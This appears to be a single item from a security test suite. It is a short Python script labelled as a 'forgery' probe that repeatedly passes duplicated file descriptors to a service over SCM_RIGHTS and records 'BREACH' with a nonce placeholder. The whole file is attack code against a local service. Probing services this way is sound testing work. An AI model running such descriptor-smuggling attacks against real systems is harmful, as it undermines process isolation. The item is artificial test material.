# id: own-036 | family: forgery | goal: pass descriptors to the service (SCM_RIGHTS)
# timeout: 5
import socket, array, os
s = socket.socket(fileno=3)
a, b = socket.socketpair()
for i in range(200):
    try:
        s.sendmsg([b'x'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', [a.fileno()] * 30))])
        result = 'BREACH' + '_@@NONCE@@'
    except OSError as e:
        pass
